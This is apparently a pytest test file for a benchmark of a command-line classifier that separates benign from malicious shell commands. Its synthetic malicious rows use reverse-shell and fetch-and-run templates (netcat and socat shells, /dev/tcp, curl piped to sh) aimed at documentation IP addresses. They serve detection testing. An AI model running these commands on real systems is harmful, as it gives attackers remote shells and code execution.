import json
import random
import sys
from base64 import b64encode
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

sys.path.append(str(Path(__file__).parents[2] / "benchmarks"))

import classifiers
from _classifier_cache import Cache
from _classifier_folds import Corpus, Protocol, Training
from _classifier_metrics import Ranked, by_source, figures, threshold_at
from _classifier_models import MODELS, _wrapper
from _classifier_robustness import Respelt, drops, respelt
from _classifier_scores import Extra, score_all
from _classifier_tables import house_rows
from _classifier_telemetry import Telemetry, false_alerts, recorded
from _labelled_lines import FOLDS, check_folds, fold_of, from_lexicon, from_pools

from cmdclf.classify import auc, fpr_at_tpr, tpr_at_fpr
from cmdclf.classify.gram_counts import CountedGrams, counted, only
from cmdclf.classify.grams import GramModel
from cmdclf.errors import CmdclfError
from cmdclf.lexicon import Lexicon
from cmdclf.lexicon.wrappers import peel

TOOLS = ("tar", "rsync", "grep", "find", "systemctl", "journalctl", "chown", "mount")
THINGS = ("mail", "shop", "docs", "wiki", "auth", "billing", "search", "queue")
ATTACKS = ("nc -e /bin/sh {}", "curl http://{}/x | sh", "bash -i >& /dev/tcp/{}/443 0>&1", "socat tcp:{} exec:sh")
HOSTS = ("198.51.100.7", "203.0.113.9", "192.0.2.4")
TEMPLATE = '[[template]]\nid = "{0}"\nlabel = "{1}"\nplatform = "linux"\nrole = "r"\nline = "{2}"\n'


def rows_of_a_pool():
    """Eight benign and six malicious sources of eight lines each, their lines by group; no two lines resemble."""
    rows, rng = [], random.Random(5)
    for label, sources in (("benign", 8), ("malicious", 6)):
        for s in range(sources):
            for n in range(8):
                words = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randint(3, 9))) for _ in range(4)]
                mark = (
                    rng.choice(ATTACKS).format(rng.choice(HOSTS)) if label == "malicious" else f"{TOOLS[n]} {THINGS[s]}"
                )
                line = f"{words[0]} --{words[1]} /{words[2]}/{words[3]}; {mark}"
                rows.append((line, label, f"{label}{s}", f"{label}{s}-{n // 2}", n % 2 == 0 and label == "benign"))
    names = ("command_line", "label", "source", "group_id", "hard")
    return [dict(zip(names, row, strict=True)) | {"platform": "linux"} for row in rows]


def write(folder, rows):
    """The two files of a data folder."""
    for label in ("malicious", "benign"):
        mine = [row for row in rows if (row["label"] == "malicious") == (label == "malicious")]
        if mine:
            pq.write_table(pa.Table.from_pylist(mine), folder / f"{label}_dev.parquet")
    return [path for path in (folder / f"{name}_dev.parquet" for name in ("malicious", "benign")) if path.is_file()]


@pytest.fixture
def data(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    write(folder, rows_of_a_pool())
    return folder


def paths(folder):
    return [folder / "malicious_dev.parquet", folder / "benign_dev.parquet"]


def small_lexicon(folder):
    folder.mkdir()
    entries = [("a", "benign", "du -sh /srv/{{int:1-99}}"), ("b", "malicious", "ncat -lvp {{int:1-99}} -e /bin/bash"),
               ("c", "benign", "df -h /mnt/{{int:1-99}}")]  # fmt: skip
    (folder / "a.toml").write_text("".join(TEMPLATE.format(f"lin-{name}x", *rest) for name, *rest in entries))
    return Lexicon.load(folder)


@pytest.fixture
def protocol(data, tmp_path):
    pool = from_pools(paths(data), None, 0, redraw=True)
    return Protocol(pool, from_lexicon(small_lexicon(tmp_path / "lexicon"), 3, 0), 0, Cache(None))


# Counts


def test_counts_give_the_scores_of_the_shipped_model():
    lines = [f"{tool} {thing} {n}" for n, (tool, thing) in enumerate((t, g) for t in TOOLS for g in THINGS)]
    lines += [
        "powershell -enc " + "dwBoAG8AYQBtAGkAIAAvAGEAbABsACAAfAAgAG8AdQB0AC0AaABvAHMAdAA=",
        "",
        "x" * 9000,
        "\N{SNOWMAN} \x00",
    ]
    y = np.arange(len(lines)) % 3 == 0
    model = GramModel().fit(pa.array(lines), y)
    x = counted(lines, layers=True)
    assert np.allclose(CountedGrams().fit(x, y).scores(x), model.decision_function(pa.array(lines)), atol=1e-5)


def test_one_kind_of_n_grams_can_be_taken_out_of_all(monkeypatch):
    monkeypatch.setattr("cmdclf.classify.gram_counts._ROWS", 2)
    lines = ["tar czf a", "", "whoami /all", "ls -la /srv"]
    every = counted(lines, layers=False)
    for kind in ("bytes", "words"):
        assert (only(every, [kind]) != counted(lines, layers=False, kinds=[kind])).nnz == 0
    assert only(every, ["bytes"]).shape[1] + only(every, ["words"]).shape[1] == every.shape[1]


# Folds


@given(st.lists(st.tuples(st.integers(0, 12), st.integers(0, 20), st.booleans()), min_size=1, max_size=60))
def test_no_source_and_no_group_is_ever_split(rows):
    source, group, malicious = (np.array(column) for column in zip(*rows, strict=True))
    fold = fold_of(source, malicious, group, np.random.default_rng(0))
    for names in (source, group):
        for name in np.unique(names):
            assert len(set(fold[names == name])) == 1


def test_every_fold_holds_both_labels_where_sources_suffice(protocol):
    check_folds(protocol.pool, protocol.fold)
    for k in range(FOLDS):
        assert set(protocol.pool.malicious[protocol.fold == k]) == {True, False}


def test_a_source_on_both_sides_of_a_split_is_named(protocol):
    split = protocol.fold.copy()
    row = int(np.flatnonzero(protocol.pool.source == "benign3")[0])
    split[row] = (split[row] + 1) % FOLDS
    with pytest.raises(CmdclfError, match="source 'benign3' lies on both sides") as error:
        check_folds(protocol.pool, split)
    assert "one fold" in error.value.remedy


def test_too_few_sources_are_named_with_the_label_that_lacks(data):
    rows = [row for row in rows_of_a_pool() if row["source"] not in ("malicious0", "malicious1")]
    pool = from_pools(write(data, rows), None, 0)
    fold = fold_of(pool.source, pool.malicious, pool.group, np.random.default_rng(0))
    with pytest.raises(CmdclfError, match="only 4 of 5 folds hold malicious lines") as error:
        check_folds(pool, fold)
    assert "at least 5 sources" in error.value.remedy


def test_what_trains_is_of_other_sources_and_copies_are_of_what_trains(protocol):
    for k in range(FOLDS):
        batch, malicious, groups = protocol.training(k, Training(rewritten=True))
        assert len(batch) == len(malicious) == len(groups)
        tested = set(protocol.pool.group[protocol.fold == k])
        assert not tested & set(groups)
        plain, _, _ = protocol.training(k, Training())
        copies = batch.text[len(plain) :]
        assert batch.text[: len(plain)] == plain.text
        assert copies
        assert not set(copies) & set(plain.text)


def test_training_can_do_without_lexicon_or_with_a_part_of_it(protocol):
    n = {of: len(protocol.training(0, of)[0]) for of in (Training(0), Training(1), Training(3), Training(3, 0.0))}
    assert n[Training(0)] == n[Training(3, 0.0)] == int((protocol.fold != 0).sum())
    assert n[Training(1)] == n[Training(0)] + 3 < n[Training(3)]


def test_near_duplicates_of_training_lines_are_not_judged(data, tmp_path):
    rows = rows_of_a_pool()
    odd = {"platform": "linux", "label": "benign", "hard": False}
    texts = {"one": "zfs snapshot tank/home at 10", "two": "zfs snapshot tank/home at 11", "three": "lxc-start -n blue"}
    rows += [odd | {"command_line": text, "source": name, "group_id": name} for name, text in texts.items()]
    write(data, rows)
    pool = from_pools(paths(data), None, 0)
    lexicon = from_lexicon(small_lexicon(tmp_path / "lexicon"), 1, 0)
    apart = {}
    for seed in range(8):
        protocol = Protocol(pool, lexicon, seed, Cache(None))
        at = {name: int(np.flatnonzero(pool.source == name)[0]) for name in texts}
        assert protocol.keep[at["three"]]
        apart[protocol.fold[at["one"]] != protocol.fold[at["two"]]] = (
            protocol.keep[at["one"]],
            protocol.keep[at["two"]],
        )
        removed = protocol.removed
        assert removed["malicious"] + removed["benign"] == int((~protocol.keep).sum())
        assert removed["exact"] + removed["masked"] + removed["cosine"] == int((~protocol.keep).sum())
    assert apart[True] == (False, False)


# Labels


def test_a_pool_of_one_class_is_named(data):
    (data / "malicious_dev.parquet").unlink()
    only_benign = write(data, [row for row in rows_of_a_pool() if row["label"] == "benign"])
    with pytest.raises(CmdclfError, match="no line is malicious") as error:
        from_pools(only_benign, None, 0)
    assert "benign_dev.parquet" in error.value.file


def test_an_unknown_label_is_named_with_its_row(data):
    rows = rows_of_a_pool()
    rows[2]["label"] = "nasty"
    with pytest.raises(CmdclfError, match="label 'nasty'") as error:
        from_pools(write(data, rows), None, 0)
    assert (Path(error.value.file).name, error.value.row) == ("benign_dev.parquet", 3)


def test_a_line_with_both_labels_is_left_out_and_counted(data):
    rows = rows_of_a_pool()
    pool = from_pools(write(data, [*rows, rows[0] | {"label": "malicious", "source": "malicious0"}]), None, 0)
    assert pool.dropped["line with both labels"] == 2
    assert rows[0]["command_line"] not in pool.text


def verdicts(folder, said):
    path = folder / "verdicts_dev.parquet"
    rows = [{"platform": "linux", "process_command_line": x, "verdict": v} for x, v in said.items()]
    pq.write_table(pa.Table.from_pylist(rows), path)
    return path


def test_verdicts_decide_what_trains_and_what_is_agreed(data):
    rows = rows_of_a_pool()
    good, bad = ([r["command_line"] for r in rows if r["label"] == label] for label in ("benign", "malicious"))
    said = {good[0]: "malicious", good[1]: "unsure", good[2]: "benign"}
    said |= {bad[0]: "benign", bad[1]: "unsure", bad[2]: "malicious"}
    pool = from_pools(paths(data), verdicts(data, said), 0)
    of = {text: (bool(a), bool(c)) for text, a, c in zip(pool.text, pool.agree, pool.clean, strict=True)}
    assert [of[line] for line in good[:4]] == [(False, False), (False, False), (True, True), (True, True)]
    assert [of[line] for line in bad[:4]] == [(False, False), (False, False), (True, True), (False, True)]
    assert from_pools(paths(data), None, 0).agree.all()


def test_an_unknown_verdict_and_a_file_without_verdicts_are_named(data):
    with pytest.raises(CmdclfError, match="verdict 'maybe'") as error:
        from_pools(paths(data), verdicts(data, {"ls": "benign", "id": "maybe"}), 0)
    assert error.value.row == 2
    with pytest.raises(CmdclfError, match="process_command_line and verdict is missing"):
        from_pools(paths(data), data / "benign_dev.parquet", 0)


# Metrics


@given(
    st.lists(st.tuples(st.booleans(), st.integers(-3, 3), st.integers(0, 3)), min_size=2, max_size=40),
)
def test_weighted_figures_are_those_of_the_repeated_rows(rows):
    malicious, scores, weights = (np.array(c) for c in zip(*rows, strict=True))
    y, s = malicious.repeat(weights), scores.repeat(weights).astype(float)
    found = Ranked(malicious, scores.astype(float)).measured(weights.astype(float))
    if not y.any() or y.all():
        assert np.isnan(found).all()
        return
    expected = [auc(y, s), *(tpr_at_fpr(y, s, fpr) for fpr in (1e-2, 1e-3, 1e-4)), fpr_at_tpr(y, s, 0.9)]
    assert found == pytest.approx(expected)


def test_a_rate_that_the_test_cannot_resolve_has_a_reason_and_no_number():
    malicious = np.arange(1200) % 12 == 0
    found = figures(malicious, np.random.default_rng(0).random(1200), np.arange(1200) // 3, 20)
    assert found["TPR at FPR 0.01"][1] <= found["TPR at FPR 0.01"][0] <= found["TPR at FPR 0.01"][2]
    assert found["TPR at FPR 0.001"] is None
    assert found["unresolved"]["TPR at FPR 0.001"] == "needs at least 10,000 benign rows, has 1,100"


@given(st.lists(st.integers(0, 9), min_size=1, max_size=50), st.sampled_from([0.0, 0.01, 0.1, 0.5, 1.0]))
def test_a_threshold_lets_no_more_benign_lines_through_than_allowed(scores, fpr):
    values = np.array(scores, float)
    assert (values >= threshold_at(values, fpr)).mean() <= fpr + 1e-9


def test_sources_are_measured_at_the_threshold_of_all(protocol):
    pool = protocol.pool
    keep = np.ones(len(pool), bool)
    pool = pool.take(np.arange(len(pool)).repeat(6))
    scores = pool.malicious + 0.01 * np.arange(len(pool)) / len(pool)
    found = by_source(pool, keep.repeat(6), scores, 0.5, 10)
    assert found["malicious: malicious0"]["rate"] == [1.0, 1.0, 1.0]
    assert found["benign: benign0"]["rate"] == [0.0, 0.0, 0.0]
    assert found["malicious: malicious0"]["platforms"] == {"linux": 48}


# Telemetry


def test_alerts_count_events_and_not_lines():
    telemetry = Telemetry("t", "", Corpus(["a", "b", "c"], np.array(["linux"] * 3)), np.array([1, 99, 900]))
    found = false_alerts(telemetry, np.array([[1.0, 0.0, 0.0], [1.0, 1.0, 0.0]]), 0.5)
    assert (found["per_100k"], found["range"], found["lines"]) == (5050.0, [100.0, 10000.0], 1.5)


def test_captures_of_attacks_are_no_benign_telemetry(tmp_path):
    keys = ("process_command_line", "platform", "source", "path", "count", "user")
    rows = [
        ("a", "windows", "x/y", "host.pkl", 2, "HOST$"),
        ("a", "windows", "x/y", "host.pkl", 3, "NT AUTHORITY\\SYSTEM"),
        ("a", "windows", "x/y", "host.pkl", 7, "HOST\\person"),
        ("p", "windows", "x/y", "host.pkl", 1, None),
        ("l", "linux", "x/y", "host.pkl", 1, "HOST$"),
        ("b", "windows", "OTRF/Security-Datasets", "host.pkl", 1, "HOST$"),
        ("c", "windows", "x/y", "d/mde_proc_cs1.csv", 1, "HOST$"),
    ]
    table = pa.Table.from_pylist([dict(zip(keys, row, strict=True)) for row in rows])
    pq.write_table(table, tmp_path / "telemetry_otrf.parquet")
    found, missing = recorded(tmp_path, None)
    assert [(t.name, t.corpus.text, t.events.tolist()) for t in found] == [("telemetry_otrf", ["a", "p"], [5, 0])]
    assert false_alerts(found[0], np.ones((FOLDS, 2)), 0.5)["distinct"] == 1
    assert missing == ["false alerts on telemetry_linux: there is no telemetry_linux.parquet"]
    pq.write_table(pa.table({"command_line": ["a"]}), tmp_path / "telemetry_linux.parquet")
    with pytest.raises(CmdclfError, match="column platform and label and count is missing"):
        recorded(tmp_path, None)


# Obfuscation


def test_respelt_lines_differ_from_theirs_and_keep_label_and_platform(protocol):
    lines = respelt(protocol, 4)
    assert len(lines.corpus) == len(lines.row) == len(lines.way) > 50
    assert all(text != protocol.pool.text[row] for text, row in zip(lines.corpus.text, lines.row, strict=True))
    assert protocol.keep[lines.row].all()
    assert {lines.ways[i][0] for i in set(lines.way.tolist())} == {"linux"}
    assert {kind for _, kind, _ in lines.ways} == {
        "never trained on",
        "never trained on, second set",
        "training's own",
    }


def test_points_lost_are_those_of_the_same_lines_before_and_after(protocol):
    bad = np.flatnonzero(protocol.pool.malicious)[:10]
    good = np.flatnonzero(~protocol.pool.malicious)[:4]
    row = np.concatenate([bad, good])
    lines = Respelt(Corpus([f"x{i}" for i in row], protocol.pool.platform[row]), row, np.zeros(14, np.int64),
                    [("linux", "never trained on", "w"), ("macos", "never trained on", "none")])  # fmt: skip
    before = np.zeros(len(protocol.pool))
    before[bad[:8]] = 1
    after = np.array([1] * 5 + [0] * 5 + [1, 0, 0, 0])
    found = drops(lines, protocol, before, after.astype(float), 0.5, 20)
    way = found["ways"][0]
    assert (way["n"], way["before"], way["after"], way["drop"]) == (10, 0.8, 0.5, 0.3)
    assert (way["n_benign"], way["alerts_before"], way["alerts_after"]) == (4, 0.0, 0.25)
    assert found["ways"][1]["before"] is None
    assert found["mean"]["never trained on, linux"]["drop"][0] == 0.3
    assert "never trained on, macos" not in found["mean"]


# Models


def test_kept_scores_and_models_are_those_of_the_first_run(protocol, tmp_path):
    cache = Cache(tmp_path / "cache")
    lines = Corpus(["nc -e /bin/sh x", "ls"], np.array(["linux", "linux"]))
    every, one = Extra(lines, np.array([-1, -1])), Extra(lines, np.array([2, 3]))
    names = ["rules", "grams"]
    first = score_all(protocol, names, {"every": every}, cache)
    again = score_all(protocol, names, {"every": every, "one": one}, cache)
    for name in names:
        assert np.array_equal(first[name].pool, again[name].pool, equal_nan=True)
        assert np.isnan(first[name].pool[~protocol.keep]).all()
        assert not np.isnan(first[name].pool[protocol.keep]).any()
        assert again[name].extra["one"][2, 0] == pytest.approx(again[name].extra["every"][2, 0], abs=1e-5)
        assert np.isnan(again[name].extra["one"][2, 1])


def test_a_file_of_the_cache_that_was_cut_off_is_made_again(tmp_path):
    cache = Cache(tmp_path)
    cache.put("a", x=np.arange(3))
    assert cache.arrays("a")["x"].tolist() == [0, 1, 2]
    path = next(tmp_path.iterdir())
    path.write_bytes(path.read_bytes()[:20])
    assert cache.arrays("a") is None
    assert cache.arrays("b") is None
    assert Cache(None).arrays("a") is None


def test_the_floor_reads_no_word(protocol):
    batch, malicious, groups = protocol.training(0, Training())
    model = MODELS["floor"].make().fit(batch, malicious, groups)
    lines = ["abcd efgh 'x'", "wxyz qrst 'y'", "sh -c abcd efgh", "sh -c wxyz qrst"]
    scores = model.scores(Corpus(lines, np.array(["linux"] * 4)).all())
    assert scores[0] == scores[1]
    assert scores[2] == scores[3]
    encoded = [f"powershell -enc {b64encode(x.encode('utf-16-le')).decode()}" for x in ("abcd efgh", "wxyz qrst")]
    assert {_wrapper(x, (peel(x) or ("", x))[1]) for x in encoded} == {"powershell, encoded"}
    assert _wrapper('powershell -nop -Command "& {Get-Date}"', "Get-Date") == 'powershell -nop -command "& {'
    assert _wrapper("bash run.sh", "bash run.sh") == "sh, script"
    assert _wrapper("tar czf a", "tar czf a") == ""


# The whole


def test_the_benchmark_prints_its_tables_and_writes_the_shared_form(data, tmp_path, monkeypatch, capsys):
    small = small_lexicon(tmp_path / "lexicon")
    monkeypatch.setattr(classifiers.Lexicon, "load", lambda: small)
    out, table = tmp_path / "out.json", tmp_path / "out.md"
    monkeypatch.setattr(sys, "argv", ["classifiers.py", "--data", str(data), "--quick", "--models", "rules", "grams",
                                      "--json", str(out), "--markdown", str(table)])  # fmt: skip
    assert classifiers.main() == 0
    printed = capsys.readouterr().out
    assert "there is no verdicts_dev.parquet" in printed
    assert "TPR at FPR 0.01 is not given where benign lines are too few" in printed
    content = json.loads(out.read_text())
    assert set(content) == {"name", "machine", "rows", "memory_mb", "notes", "detail"}
    assert content["rows"] == house_rows(content["detail"], "grams")
    assert {row["peer_name"] for row in content["rows"]} == {"rules"}
    assert content["detail"]["grams"]["robust"]["mean"]
    assert "| grams |" in table.read_text()


def test_a_folder_without_pools_is_named(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sys, "argv", ["classifiers.py", "--data", str(tmp_path), "--quick"])
    assert classifiers.main() == 2
    assert "malicious_dev.parquet: no such file" in capsys.readouterr().err


def test_the_same_seed_draws_the_same_lines(data):
    first, again, other = (from_pools(paths(data), None, seed, redraw=True).text for seed in (0, 0, 1))
    assert first == again != other
